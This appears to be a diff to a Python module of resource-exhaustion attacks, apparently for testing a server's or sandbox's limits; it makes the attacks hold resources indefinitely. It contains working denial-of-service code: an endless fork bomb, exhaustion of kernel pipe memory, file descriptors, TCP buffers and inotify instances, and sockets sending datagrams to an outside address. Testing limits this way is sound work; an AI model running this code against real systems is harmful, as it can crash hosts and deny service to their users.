@@ -1,10 +1,11 @@
-"""Attacks on the resources of the server: `python3 -m attack.flood NAME ARGUMENT...`. Each one takes all that it gets, holds it
-for some seconds, and prints how much that was."""
+"""Attacks on the resources of the server: `python3 -m attack.flood NAME ARGUMENT...`. Each one takes all that it gets, prints how
+much that was, and holds it until it is ended."""
 
 import contextlib
 import ctypes
 import os
 import resource
+import signal
 import socket
 import sys
 import time
@@ -12,39 +13,23 @@ import time
 MIB = 1 << 20
 
 
-def hold(seconds, text):
+def hold(text):
     print(text, flush=True)
-    time.sleep(float(seconds))
+    signal.pause()
 
 
-def processes(seconds):
-    """Forks until it fails, in all processes that it made."""
-    made, end = [], time.monotonic() + float(seconds)
-    while time.monotonic() < end:
+def processes():
+    """Forks without end, in all processes that it made."""
+    pause = 0
+    while True:
+        time.sleep(pause)  # pacing: this attack is on the number of processes, not on the CPU
         try:
-            child = os.fork()
+            pause = pause if os.fork() else 0.1
         except OSError:
-            time.sleep(0.001)
-            continue
-        if child == 0:
-            made = None
-            continue
-        if made is not None:
-            made.append(child)
-    if made is None:
-        os._exit(0)
-    print(f"{len(made)} children", flush=True)
+            pause = 0.1
 
 
-def memory(mebibytes):
-    """Takes this much memory."""
-    taken = []
-    for _ in range(int(mebibytes)):
-        taken.append(b"x" * MIB)
-    print(f"took {len(taken)} MiB", flush=True)
-
-
-def kernel_memory(seconds):
+def kernel_memory():
     """Takes memory of the kernel, which belongs to no process: pages in pipes."""
     pipes, size = [], 0
     with contextlib.suppress(OSError, BlockingIOError):
@@ -54,10 +39,10 @@ def kernel_memory(seconds):
             with contextlib.suppress(BlockingIOError):
                 while True:
                     size += os.write(writer, bytes(65536))
-    hold(seconds, f"{len(pipes)} pipes with {size // MIB} MiB")
+    hold(f"{len(pipes)} pipes with {size // MIB} MiB")
 
 
-def descriptors(seconds):
+def descriptors():
     """Opens sockets until it fails, in many processes, and sends datagrams to the internet from each of them."""
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
@@ -66,10 +51,10 @@ def descriptors(seconds):
         while len(made) < 65000:
             made.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
             made[-1].sendto(b"attack", ("198.51.100.10", 9999))
-    hold(seconds, f"{len(made)} sockets")
+    hold(f"{len(made)} sockets")
 
 
-def buffers(seconds):
+def buffers():
     """Fills the buffers of TCP connections to itself, which belong to the kernel."""
     resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
     listener = socket.create_server(("127.0.0.1", 0), backlog=4096)
@@ -85,7 +70,7 @@ def buffers(seconds):
             with contextlib.suppress(BlockingIOError):
                 while True:
                     size += sender.send(bytes(MIB))
-    hold(seconds, f"{len(made)} sockets with {size // MIB} MiB")
+    hold(f"{len(made)} sockets with {size // MIB} MiB")
 
 
 def disk(path, mebibytes):
@@ -120,13 +105,13 @@ def log(mebibytes):
     print("written", flush=True)
 
 
-def watches(seconds):
+def watches():
     """Takes inotify instances, of which the kernel gives each user a number."""
     library, made = ctypes.CDLL(None, use_errno=True), 0
     resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
     while library.inotify_init() >= 0:
         made += 1
-    hold(seconds, f"{made} instances")
+    hold(f"{made} instances")
 
 
 def shared_memory(mebibytes):
